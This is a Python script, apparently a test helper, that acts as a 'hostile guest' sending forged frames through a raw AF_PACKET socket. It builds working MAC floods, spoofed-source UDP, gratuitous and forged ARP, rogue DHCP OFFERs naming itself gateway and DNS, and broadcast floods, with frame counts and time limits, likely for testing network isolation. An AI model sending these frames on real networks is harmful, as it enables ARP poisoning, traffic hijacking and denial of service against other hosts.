#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""A hostile guest: send forged frames out of an interface (AF_PACKET).

    forge.py IFACE KIND [--count N] [--secs S] [options]

KIND:
  macflood   frames from random source MACs (locally administered unicast)
             to --dst-mac (default broadcast)
  ipspoof    UDP from --src-ip to --dst-ip (--dst-mac), our own MAC
  garp       gratuitous ARP claiming --src-ip, our own MAC
  arpforge   ARP whose sender MAC is --fake-mac, Ethernet source ours
  dhcpoffer  a DHCP OFFER from --src-ip:67 to broadcast :68 (rogue server)
  bcast      UDP broadcasts from --src-ip, as fast as possible

Prints "started" once it sends, then sends until --count frames or --secs
seconds, whichever comes first, and prints "sent N". Bounded: at most --count (default 1000) frames.
"""
import argparse
import random
import socket
import struct
import sys
import time

ETH_P_IP = 0x0800
ETH_P_ARP = 0x0806


def mac_bytes(s):
    return bytes(int(x, 16) for x in s.split(":"))


def own_mac(ifname):
    with open("/sys/class/net/%s/address" % ifname) as f:
        return mac_bytes(f.read().strip())


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_udp(src, dst, sport, dport, payload):
    udp_len = 8 + len(payload)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, random.randrange(65536),
                     0, 64, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + \
        struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    c = csum(pseudo + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", c) + udp[8:]
    return ip + udp


def eth(dst, src, proto, payload):
    return dst + src + struct.pack("!H", proto) + payload


def arp(op, sha, spa, tha, tpa):
    return struct.pack("!HHBBH6s4s6s4s", 1, ETH_P_IP, 6, 4, op, sha,
                       socket.inet_aton(spa), tha, socket.inet_aton(tpa))


def dhcp_offer(server, mac):
    xid = random.randrange(1 << 32)
    bootp = struct.pack("!BBBBIHH4s4s4s4s16s64s128s", 2, 1, 6, 0, xid, 0, 0x8000,
                        b"\0" * 4, socket.inet_aton("10.66.66.66"),
                        socket.inet_aton(server), b"\0" * 4, mac + b"\0" * 10,
                        b"\0" * 64, b"\0" * 128)
    opts = b"\x63\x82\x53\x63" + b"\x35\x01\x02" + b"\x36\x04" + \
        socket.inet_aton(server) + b"\x03\x04" + socket.inet_aton(server) + \
        b"\x06\x04" + socket.inet_aton(server) + b"\x33\x04\x00\x00\x0e\x10\xff"
    return bootp + opts


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("ifname")
    ap.add_argument("kind", choices=["macflood", "ipspoof", "garp", "arpforge",
                                     "dhcpoffer", "bcast"])
    ap.add_argument("--count", type=int, default=1000)
    ap.add_argument("--secs", type=float, default=30)
    ap.add_argument("--src-ip", default="0.0.0.0")
    ap.add_argument("--dst-ip", default="255.255.255.255")
    ap.add_argument("--dst-mac", default="ff:ff:ff:ff:ff:ff")
    ap.add_argument("--fake-mac", default="02:66:66:66:66:66")
    a = ap.parse_args()

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((a.ifname, 0))
    me = own_mac(a.ifname)
    dst = mac_bytes(a.dst_mac)
    bcast = b"\xff" * 6
    rnd = random.Random(1)

    def frame():
        if a.kind == "macflood":
            src = bytes([0x02 | (rnd.randrange(64) << 2)]) + \
                bytes(rnd.randrange(256) for _ in range(5))
            return eth(dst, src, ETH_P_IP,
                       ipv4_udp(a.src_ip, a.dst_ip, 9, 9, b"x" * 18))
        if a.kind == "ipspoof":
            return eth(dst, me, ETH_P_IP,
                       ipv4_udp(a.src_ip, a.dst_ip, 4000, 9, b"spoof" * 4))
        if a.kind == "garp":
            return eth(bcast, me, ETH_P_ARP,
                       arp(2, me, a.src_ip, bcast, a.src_ip))
        if a.kind == "arpforge":
            return eth(bcast, me, ETH_P_ARP,
                       arp(1, mac_bytes(a.fake_mac), a.src_ip, b"\0" * 6,
                           a.dst_ip))
        if a.kind == "dhcpoffer":
            return eth(bcast, me, ETH_P_IP,
                       ipv4_udp(a.src_ip, "255.255.255.255", 67, 68,
                                dhcp_offer(a.src_ip, me)))
        return eth(bcast, me, ETH_P_IP,
                   ipv4_udp(a.src_ip, "255.255.255.255", 4000, 9, b"b" * 18))

    fixed = None if a.kind == "macflood" else frame()
    print("started", flush=True)
    deadline = time.monotonic() + a.secs
    sent = 0
    while sent < a.count and time.monotonic() < deadline:
        try:
            sock.send(fixed or frame())
            sent += 1
        except BlockingIOError:
            time.sleep(0.001)
        except OSError as e:
            if e.errno != 105:	# ENOBUFS: the qdisc is full, try again
                raise
            time.sleep(0.001)
    print("sent %d" % sent)
    return 0


if __name__ == "__main__":
    sys.exit(main())
